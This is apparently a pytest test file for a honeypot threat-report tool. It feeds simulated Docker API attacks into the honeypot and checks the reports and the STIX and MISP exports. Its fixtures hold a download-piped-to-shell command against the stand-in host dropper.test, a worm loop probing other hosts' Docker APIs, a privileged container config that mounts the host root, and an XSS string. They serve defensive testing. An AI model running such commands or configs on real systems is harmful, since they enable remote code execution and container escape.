"""`detonate report` over a store filled by real honeypot sessions: three sources on loopback
addresses (a reconnaissance probe, a miner on a clean base image, a privileged worm that execs),
the queued scans finished with reports of what such runs find, then the figures, Markdown,
JSON through the CLI, and the HTML page in a real headless Chromium."""

from __future__ import annotations

import hashlib
import http.client
import json
import os
import re
import shutil
import subprocess
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from detonate.cli.main import main
from detonate.intel import render
from detonate.intel.figures import gather
from detonate.model.findings import Category, Confidence, Finding, Severity
from detonate.model.iocs import Iocs
from detonate.model.report import ImageInfo, Report, Verdict

from .conftest import LiveHoneypot

MINER_CMD = ["sh", "-c", "wget -qO- http://dropper.test/m.sh | sh"]
WORM_CMD = ["sh", "-c", "for h in $(seq 1 3); do curl -s http://198.51.100.$h:2375/_ping; done"]


def request(live: LiveHoneypot, source: str, method: str, path: str, body: Any = None) -> int:
    connection = http.client.HTTPConnection(
        "127.0.0.1", live.port, timeout=10, source_address=(source, 0)
    )
    data = json.dumps(body).encode() if body is not None else None
    connection.request(method, path, body=data, headers={"User-Agent": "python-requests/2.31"})
    status = connection.getresponse().status
    connection.close()
    return status


def finding(rule: str, title: str, category: Category, technique: str) -> Finding:
    return Finding(
        rule_id=rule,
        title=title,
        category=category,
        technique=technique,
        severity=Severity.HIGH,
        confidence=Confidence.HIGH,
        source="runtime:rules",
        runtime_only=True,
    )


def digest_of(reference: str) -> str:
    """A made-up manifest digest: honeypot scans learn theirs from the worker's report."""
    return "sha256:" + hashlib.sha256(reference.encode()).hexdigest()


def report_for(reference: str, findings: tuple[Finding, ...], iocs: Iocs) -> Report:
    return Report(
        image=ImageInfo(reference=reference, digest=digest_of(reference), platform="linux/amd64"),
        verdict=Verdict.MALICIOUS,
        score=90,
        findings=findings,
        iocs=iocs,
    )


@pytest.fixture
def filled(start_honeypot) -> tuple[LiveHoneypot, dict[str, Any]]:
    live = start_honeypot(name="hp-test-1")
    # 127.0.0.2: reconnaissance only
    for path in ("/_ping", "/v1.41/version", "/v1.41/info"):
        assert request(live, "127.0.0.2", "GET", path) == 200
    # 127.0.0.3: a miner on a clean base image
    assert request(live, "127.0.0.3", "POST", "/v1.41/images/create?fromImage=alpine:3.19") == 200
    miner = {"Image": "alpine:3.19", "Cmd": MINER_CMD}
    assert request(live, "127.0.0.3", "POST", "/v1.41/containers/create", miner) == 201
    # 127.0.0.4: a privileged worm mounting the host root, then exec'ing into its container
    assert request(live, "127.0.0.4", "POST", "/v1.41/images/create?fromImage=busybox:1.36") == 200
    worm = {
        "Image": "busybox:1.36",
        "Cmd": WORM_CMD,
        "HostConfig": {"Privileged": True, "Binds": ["/:/host"]},
    }
    assert request(live, "127.0.0.4", "POST", "/v1.41/containers/create?name=w", worm) == 201
    assert request(live, "127.0.0.4", "POST", "/v1.41/containers/w/start") == 204
    assert request(live, "127.0.0.4", "POST", "/v1.41/containers/w/exec", {"Cmd": ["id"]}) == 201

    deployments = live.deployments()
    assert [d.image for d in deployments] == ["alpine:3.19", "busybox:1.36", "busybox:1.36"]
    store = live.store
    miner_scan, worm_scan = deployments[0].scan_id, deployments[1].scan_id
    for scan_id in (miner_scan, worm_scan):
        store.mark_running(scan_id)
    store.record_report(
        miner_scan,
        report_for(
            "docker://alpine:3.19",
            (
                finding("stratum-login", "Stratum mining login", Category.COMMUNICATION, "T1496"),
                finding(
                    "download-pipe-shell",
                    "Download piped to a shell",
                    Category.INITIAL_EXECUTION,
                    "T1105",
                ),
            ),
            Iocs(
                domains=("dropper.test", "pool.test"),
                pools=("stratum+tcp://pool.test:3333",),
                wallets=("4FAKEWALLET",),
                ips=("192.0.2.10",),
            ),
        ),
    )
    store.record_report(
        worm_scan,
        report_for(
            "docker://busybox:1.36",
            (
                finding(
                    "docker-api-propagation",
                    "Talks to Docker APIs of other hosts",
                    Category.PROPAGATION,
                    "T1046",
                ),
                finding("escape-mount", "Mounts the host root", Category.WEAPONIZATION, "T1611"),
            ),
            Iocs(ips=("198.51.100.1", "198.51.100.2")),
        ),
    )
    now = datetime.now(UTC)
    return live, gather(store, now - timedelta(days=1), now + timedelta(minutes=1))


def test_figures_count_sessions_attacks_and_what_the_scans_found(filled):
    _live, figures = filled
    totals = figures["totals"]
    assert totals["sessions"] == 3 and totals["sources"] == 3
    assert totals["attacks"] == 2  # the probe deployed nothing
    assert totals["deployments"] == 3 and totals["scans"] == 3 and totals["scans_done"] == 2
    assert sum(day["attacks"] for day in figures["per_day"]) == 2
    assert sum(day["verdicts"]["malicious"] for day in figures["per_day"]) == 2

    objectives = {o["name"]: (o["count"], o["share"]) for o in figures["objectives"]}
    assert objectives == {
        "mining": (1, 0.5),
        "ddos": (0, 0.0),
        "backdoor": (0, 0.0),
        "worm": (1, 0.5),
    }
    categories = {c["name"]: c["count"] for c in figures["categories"]}
    assert categories == {
        "initial-execution": 1,
        "weaponization": 1,
        "propagation": 1,
        "communication": 1,
        "collection-exfiltration": 0,
    }
    assert figures["families"] == [{"name": "Docker API worm", "count": 1}]
    assert figures["pools"] == [{"name": "stratum+tcp://pool.test:3333", "count": 1}]
    assert figures["wallets"] == [{"name": "4FAKEWALLET", "count": 1}]
    assert {d["name"] for d in figures["c2_domains"]} == {"dropper.test", "pool.test"}
    assert {d["name"] for d in figures["c2_addresses"]} == {
        "192.0.2.10",
        "198.51.100.1",
        "198.51.100.2",
    }
    assert figures["top_images"][0] == {"name": "busybox:1.36", "count": 2}
    assert figures["source_countries"] == [{"name": "unknown", "count": 3}]  # loopback
    assert {e["name"] for e in figures["escape_intent"]} == {"privileged", "host-mount"}
    techniques = {t["technique"]: t["scans"] for t in figures["techniques"]}
    assert techniques == {"T1046": 1, "T1105": 1, "T1496": 1, "T1611": 1}
    (first,) = figures["time_to_first_attack"]
    assert first["honeypot"] == "hp-test-1" and 0 <= first["seconds"] < 120


def test_markdown_and_json_from_the_cli(filled, tmp_path):
    live, figures = filled
    url = str(live.store.engine.url)
    since = (datetime.now(UTC) - timedelta(days=1)).isoformat()
    out = tmp_path / "report.json"
    assert main(["report", "--db", url, "--since", since, "--format", "json", "-o", str(out)]) == 0
    from_cli = json.loads(out.read_text())
    assert from_cli["totals"] == figures["totals"]
    assert from_cli["objectives"] == figures["objectives"]

    markdown = render.render(figures, "md")
    assert "| mining | 1 | 50.0% |" in markdown
    assert "| T1496 | communication | 1 | 1 | Stratum mining login |" in markdown
    assert "| 4FAKEWALLET | 1 |" in markdown


def test_report_rejects_an_empty_window(filled):
    live, _ = filled
    url = str(live.store.engine.url)
    assert main(["report", "--db", url, "--since", "2026-12-02", "--until", "2026-12-01"]) == 2


# --- the HTML page in a real headless Chromium -------------------------------------------------

CHROMIUM = shutil.which("chromium")


class VisibleText(HTMLParser):
    """Text a person sees (not inside <style>/<title>), and the charts' accessible names."""

    def __init__(self) -> None:
        super().__init__()
        self.text: list[str] = []
        self.charts: list[str] = []
        self._hidden = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("style", "title", "script"):
            self._hidden += 1
        if tag == "svg":
            self.charts.append(dict(attrs).get("aria-label") or "")

    def handle_endtag(self, tag: str) -> None:
        if tag in ("style", "title", "script"):
            self._hidden -= 1

    def handle_data(self, data: str) -> None:
        if not self._hidden and data.strip():
            self.text.append(data.strip())


def chromium(page: Path, profile: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    assert CHROMIUM is not None
    return subprocess.run(
        [
            CHROMIUM,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            "--disable-component-update",
            "--no-first-run",
            f"--user-data-dir={profile}",
            "--enable-logging=stderr",
            "--v=0",
            *extra,
            page.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=90,
        check=False,
    )


@pytest.mark.skipif(CHROMIUM is None, reason="Debian package `chromium` is not installed")
@pytest.mark.slow
def test_html_report_shows_its_figures_in_chromium(filled, tmp_path):
    _live, figures = filled
    # an attacker-chosen image name must stay text
    figures["top_images"].append({"name": '<script>alert("x")</script>', "count": 1})
    page = tmp_path / "threat-report.html"
    page.write_text(render.render(figures, "html"), encoding="utf-8")
    assert not re.search(r"(src|href)=\"https?:", page.read_text())  # nothing from a CDN

    done = chromium(page, tmp_path / "profile-dom", "--dump-dom")
    assert done.returncode == 0, done.stderr[-2000:]
    assert [line for line in done.stderr.splitlines() if ":CONSOLE" in line] == []
    seen = VisibleText()
    seen.feed(done.stdout)
    text = " ".join(seen.text)
    assert "detonate threat report" in text
    assert "Attacks and scans per day" in text and "Verdict mix over time" in text
    assert "mining" in text and "50.0%" in text  # the objective bar's label
    assert "stratum+tcp://pool.test:3333" in text and "4FAKEWALLET" in text
    assert "T1611" in text and "hp-test-1" in text
    assert '<script>alert("x")</script>' in text  # shown as text, not run
    assert seen.charts[:2] == ["Sessions, attacks and scans per day", "Verdict mix per day"]
    assert "Share of done scans per objective" in seen.charts

    directory = Path(os.environ.get("DETONATE_ARTIFACTS") or tmp_path / "artifacts")
    directory.mkdir(parents=True, exist_ok=True)
    screenshot = directory / "threat-report.png"
    shot = chromium(
        page,
        tmp_path / "profile-shot",
        "--hide-scrollbars",
        f"--screenshot={screenshot}",
        "--window-size=1280,2400",
    )
    assert shot.returncode == 0, shot.stderr[-2000:]
    assert screenshot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert screenshot.stat().st_size > 20_000


def test_stix_bundle_of_the_window(filled, tmp_path):
    import stix2

    live, _ = filled
    out = tmp_path / "bundle.json"
    since = (datetime.now(UTC) - timedelta(days=1)).isoformat()
    until = (datetime.now(UTC) + timedelta(minutes=1)).isoformat()
    url = str(live.store.engine.url)
    assert (
        main(
            [
                "report",
                "--db",
                url,
                "--since",
                since,
                "--until",
                until,
                "--format",
                "stix",
                "-o",
                str(out),
            ]
        )
        == 0
    )
    parsed = stix2.parse(out.read_text(), allow_custom=True)
    by_type: dict[str, list[Any]] = {}
    for obj in parsed.objects:
        by_type.setdefault(obj.type, []).append(obj)
    analyses = by_type["malware-analysis"]
    assert len(analyses) == 2 and {a.result for a in analyses} == {"malicious"}
    assert {a.product for a in analyses} == {"detonate"}
    # sample_ref: the image's manifest as an artifact, by registry URL and SHA-256
    samples = {a.id: a for a in by_type["artifact"]}
    assert set(samples) == {a.sample_ref for a in analyses}
    urls = {s.url: s.hashes["SHA-256"] for s in samples.values()}
    alpine = digest_of("docker://alpine:3.19")
    assert urls[f"https://registry-1.docker.io/v2/library/alpine/manifests/{alpine}"] == (
        alpine.removeprefix("sha256:")
    )
    patterns = {i.pattern for i in by_type["indicator"]}
    assert "[url:value = 'stratum+tcp://pool.test:3333']" in patterns
    assert "[x-detonate-wallet:address = '4FAKEWALLET']" in patterns
    assert "[domain-name:value = 'dropper.test']" in patterns
    assert "[ipv4-addr:value = '198.51.100.1']" in patterns
    assert len(by_type["observed-data"]) == 3  # one per source address
    assert {o.number_observed for o in by_type["observed-data"]} == {1}  # one session each
    assert {a.value for a in by_type["ipv4-addr"]} == {"127.0.0.2", "127.0.0.3", "127.0.0.4"}
    # the same store exports the same bundle
    again = tmp_path / "again.json"
    assert (
        main(
            [
                "report",
                "--db",
                url,
                "--since",
                since,
                "--until",
                until,
                "--format",
                "stix",
                "-o",
                str(again),
            ]
        )
        == 0
    )
    assert again.read_text() == out.read_text()


def report_cli(url: str, fmt: str, out: Path, now: datetime | None = None) -> str:
    """`now`: the window's anchor; two calls that must give one event share it (else a minute
    boundary between them, on a busy machine, moves the window and so the event's uuid)."""
    now = now or datetime.now(UTC).replace(second=0, microsecond=0)
    since, until = now - timedelta(days=1), now + timedelta(minutes=2)
    argv = ["report", "--db", url, "--since", since.isoformat(), "--until", until.isoformat()]
    assert main([*argv, "--format", fmt, "-o", str(out)]) == 0
    return out.read_text()


def test_misp_event_of_the_window_loads_in_pymisp_and_fits_the_templates(filled, tmp_path):
    from pymisp import MISPEvent, MISPObject

    live, _ = filled
    url = str(live.store.engine.url)
    now = datetime.now(UTC).replace(second=0, microsecond=0)
    text = report_cli(url, "misp", tmp_path / "event.json", now)
    # same store, same window: the same event
    assert report_cli(url, "misp", tmp_path / "again.json", now) == text

    misp = MISPEvent()
    misp.load(text)  # PyMISP's own loader: the MISP core format's event, attributes, objects
    describe = misp.describe_types
    for attribute in [*misp.attributes, *(a for o in misp.objects for a in o.attributes)]:
        assert attribute.type in describe["category_type_mappings"][attribute.category], attribute

    images = [o for o in misp.objects if o.name == "container-image"]
    assert len(images) == len(misp.objects) == 2  # one per finished scan
    by_uuid = {a.uuid: a for a in misp.attributes}
    for image in images:
        # Rebuilt strictly from PyMISP's bundled template: unknown relations or a wrong
        # template raise, a missing required attribute fails the validation in to_json()
        strict = MISPObject("container-image", strict=True)
        assert (image.template_uuid, str(image.template_version)) == (
            strict.template_uuid,
            str(strict.template_version),
        )
        for attribute in image.attributes:
            strict.add_attribute(attribute.object_relation, value=attribute.value)
            assert (
                attribute.type
                == strict.get_attributes_by_relation(attribute.object_relation)[0].type
            )
        strict.to_json()
        assert all(r.referenced_uuid in by_uuid for r in image.references)
    alpine = next(
        o for o in images if o.get_attributes_by_relation("image-name")[0].value == "library/alpine"
    )
    values = {a.object_relation: a.value for a in alpine.attributes}
    assert values == {
        "image-name": "library/alpine",
        "registry": "docker.io",
        "tag": "3.19",
        "digest": digest_of("docker://alpine:3.19").removeprefix("sha256:"),
        "architecture": "amd64",
    }
    assert "verdict malicious" in alpine.comment
    contacted = {by_uuid[r.referenced_uuid].value for r in alpine.references}
    assert contacted == {
        "dropper.test",
        "pool.test",
        "stratum+tcp://pool.test:3333",
        "4FAKEWALLET",
        "192.0.2.10",
    }

    kinds = {(a.type, a.value) for a in misp.attributes}
    assert {
        ("domain", "dropper.test"),
        ("url", "stratum+tcp://pool.test:3333"),
        ("ip-dst", "198.51.100.1"),
        ("text", "4FAKEWALLET"),
    } <= kinds
    sources = {a.value: a for a in misp.attributes if a.type == "ip-src"}
    assert set(sources) == {"127.0.0.2", "127.0.0.3", "127.0.0.4"}
    assert not any(a.to_ids for a in sources.values())
    assert "1 session(s)" in sources["127.0.0.4"].comment
    tags = {t.name for t in misp.tags}
    assert {"tlp:amber", "mitre-attack:T1496", "mitre-attack:T1611"} <= tags
